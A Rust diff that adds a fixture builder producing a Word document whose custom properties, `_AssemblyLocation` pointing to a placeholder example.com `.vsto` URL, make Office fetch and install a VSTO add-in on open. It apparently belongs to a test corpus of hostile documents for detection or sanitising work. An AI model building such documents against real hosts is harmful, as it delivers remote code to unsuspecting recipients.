@@ -453,6 +453,31 @@ pub fn add_custom_ui(pkg: &mut PackageBuilder) {
     pkg.add_rel("", rel::CUSTOM_UI, "customUI/customUI14.xml");
 }
 
+/// A document-level add-in: custom properties that make Office fetch and install a VSTO
+/// customization when the document opens (plus an ordinary property that must survive).
+pub fn vsto_addin() -> Vec<u8> {
+    let mut w = base(ct::DOCX_MAIN, "Add-in loader");
+    let fmtid = "{D5CDD505-2E9C-101B-9397-08002B2CF9AE}";
+    let xml = format!(
+        "{XML_DECL}<Properties xmlns=\"http://schemas.openxmlformats.org/officeDocument/2006/custom-properties\" \
+xmlns:vt=\"http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes\">\
+<property fmtid=\"{fmtid}\" pid=\"2\" name=\"_AssemblyLocation\"><vt:lpwstr>https://example.com/addin/report.vsto|vstolocal</vt:lpwstr></property>\
+<property fmtid=\"{fmtid}\" pid=\"3\" name=\"_AssemblyName\"><vt:lpwstr>4E3C66D5-58D4-491E-A7D4-64AF99AF6E8B</vt:lpwstr></property>\
+<property fmtid=\"{fmtid}\" pid=\"4\" name=\"Department\"><vt:lpwstr>Radiology</vt:lpwstr></property></Properties>"
+    );
+    w.pkg.add_part(
+        "docProps/custom.xml",
+        Some("application/vnd.openxmlformats-officedocument.custom-properties+xml"),
+        xml,
+    );
+    w.pkg.add_rel(
+        "",
+        "http://schemas.openxmlformats.org/officeDocument/2006/relationships/custom-properties",
+        "docProps/custom.xml",
+    );
+    w.finish()
+}
+
 /// A program hidden in a part no relationship reaches, with a content type for `.exe`.
 pub fn hidden_executable() -> Vec<u8> {
     let mut w = base(ct::DOCX_MAIN, "Hidden payload");
